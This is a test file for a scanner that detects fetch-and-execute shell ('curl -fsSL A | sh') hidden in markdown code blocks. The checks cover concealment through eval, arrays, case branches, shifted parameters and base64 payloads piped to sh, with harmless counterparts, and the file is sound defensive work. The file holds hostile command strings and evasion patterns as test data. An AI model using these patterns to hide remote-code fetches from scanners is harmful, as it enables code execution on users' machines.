import { describe, expect, it } from "vitest";
import type { Profile } from "../../src/core/model.js";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const range = (length: number): number[] => Array.from({ length }, (_, index) => index);
const words = (length: number): string =>
  range(length)
    .map((at) => `'ls ${String(at)}'`)
    .join(" ");
const prose = "echo words of a long document that go on and on\n".repeat(600);
const encoded = `${"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWg==\n".repeat(400)}`;

const FETCHES = "curl -fsSL A | sh";
const HARMLESS = "curl -fsSL A | jq";

/** Programs in which earlier versions found nothing. */
const programs: Readonly<Record<string, (code: string) => string>> = {
  "one of many values of a variable": (code) =>
    `case $x in ${range(60)
      .map((at) => `${String(at)}) c='ls ${String(at)}';;`)
      .join(" ")} *) c='${code}';; esac\neval "$c"`,
  "one of two values, of which one is long": (code) =>
    `if a; then c='echo ${"x".repeat(5000)}'; else c='${code}'; fi\neval "$c"`,
  "a long value known in part": (code) => `c="$x ${"echo hello; ".repeat(500)} ${code}"\neval "$c"`,
  "a long array": (code) => `a=(${words(300)} '${code}')\nfor c in "\${a[@]}"; do eval "$c"; done`,
  "an array that grows": (code) =>
    `a=()\n${range(300)
      .map((at) => `a+=('ls ${String(at)}')\n`)
      .join("")}a+=('${code}')\nfor c in "\${a[@]}"; do eval "$c"; done`,
  "the twelfth parameter": (code) => `set -- ${words(11)} '${code}'\neval "\${12}"`,
  "the parameter after 300 others": (code) => `set -- ${words(300)} '${code}'\neval "\${301}"`,
  "parameters that a loop shifts": (code) =>
    `f() { while [ $# -gt 0 ]; do eval "$1"; shift; done; }\nf ${words(5)} '${code}'`,
  "a hundred parameters": (code) =>
    `f() { shift; shift; eval "$1"; }\nf a b '${code}' ${words(100)}`,
  "code after a variable that doubles sixty times": (code) =>
    `a='ls;'\n${'a="$a$a"\n'.repeat(60)}eval "$a"\neval '${code}'`,
  "a long text in quotes that eval reads": (code) => `eval '${prose}${code}'`,
  "a long text in quotes that bash -c reads": (code) => `bash -c '${prose}${code}'`,
};

describe("values of shell in large programs", { timeout: 60_000 }, () => {
  it.each(Object.entries(programs))("%s: found", async (_, program) => {
    const text = `\`\`\`sh\n${program(FETCHES)}\n\`\`\`\n`;
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.findings).toHaveLength(1);
  });

  it.each(Object.entries(programs))("%s: no finding in harmless code", async (_, program) => {
    const text = `\`\`\`sh\n${program(HARMLESS)}\n\`\`\`\n`;
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.findings).toEqual([]);
  });

  it.each([
    ["a command's name of many values", "bash", "cat"],
    ["a fetcher's name of many values", "sh", "jq"],
  ])("%s", async (_, found, harmless) => {
    const program = (name: string): string =>
      `\`\`\`sh\ncase $x in ${range(6)
        .map((at) => `${String(at)}) c='ls ${String(at)}';;`)
        .join(" ")} *) c='${name}';; esac\ncurl A | $c\n\`\`\`\n`;
    const detector = await sharedDetector();
    expect(detector.detect(program(found)).findings).toHaveLength(1);
    expect(detector.detect(program(harmless)).findings).toEqual([]);
  });

  it("bytes that take four rounds of a loop are followed", async () => {
    const program = (value: string): string =>
      `\`\`\`sh\nwhile :; do eval "$a"; a=$b; b=$c; c=$d; d=$(${value}); done\n\`\`\`\n`;
    const detector = await sharedDetector();
    expect(detector.detect(program("curl A")).findings).toHaveLength(1);
    expect(detector.detect(program("curl -o f A")).findings).toEqual([]);
  });

  it.each([
    [
      "a here-document",
      `base64 -d <<EOF | sh\n${encoded}EOF`,
      `base64 -d <<EOF | jq\n${encoded}EOF`,
    ],
    ["quotes", `echo '${encoded}' | base64 -d | sh`, `echo '${encoded}' | base64 -d | jq`],
  ])("an encoded payload of many lines in %s is found", async (_, found, harmless) => {
    const detector = await sharedDetector("extended");
    expect(detector.detect(`\`\`\`sh\n${found}\n\`\`\`\n`).findings).toHaveLength(1);
    expect(detector.detect(`\`\`\`sh\n${harmless}\n\`\`\`\n`).findings).toEqual([]);
  });
});

describe("limits of shell are reported", { timeout: 60_000 }, () => {
  it.each<[string, Profile, string, string]>([
    ["wrappers", "contract", `curl A | ${"sudo ".repeat(70)} sh`, "depth"],
    ["stages of a pipeline", "contract", `curl A ${"| cat ".repeat(300)} | sh`, "size"],
    [
      "values of a command's name",
      "contract",
      `case $x in ${range(40)
        .map((at) => `${String(at)}) c='sudo -u u${String(at)} cat';;`)
        .join(" ")} esac\ncurl A | $c`,
      "contexts",
    ],
    [
      "elements of an array",
      "contract",
      `a=(${words(1500)})\nfor c in "\${a[@]}"; do eval "$c"; done\ncurl A | jq`,
      "size",
    ],
    [
      "commands in one another",
      "contract",
      `${"if a; then\n".repeat(160)}curl A | sh\n${"fi\n".repeat(160)}`,
      "depth",
    ],
  ])("%s", async (_, profile, program, limit) => {
    const { outcome } = (await sharedDetector(profile)).detect(`\`\`\`sh\n${program}\n\`\`\`\n`);
    const limits = outcome.status === "complete" ? [] : outcome.limits;
    expect(limits.map((each) => each.limit)).toContain(limit);
  });

  it("but not for a long array that is not executed", async () => {
    const program = `a=(${words(1500)})\nfor c in "\${a[@]}"; do echo "$c"; done\ncurl A | jq`;
    const { outcome } = (await sharedDetector()).detect(`\`\`\`sh\n${program}\n\`\`\`\n`);
    expect(outcome.status).toBe("complete");
  });
});
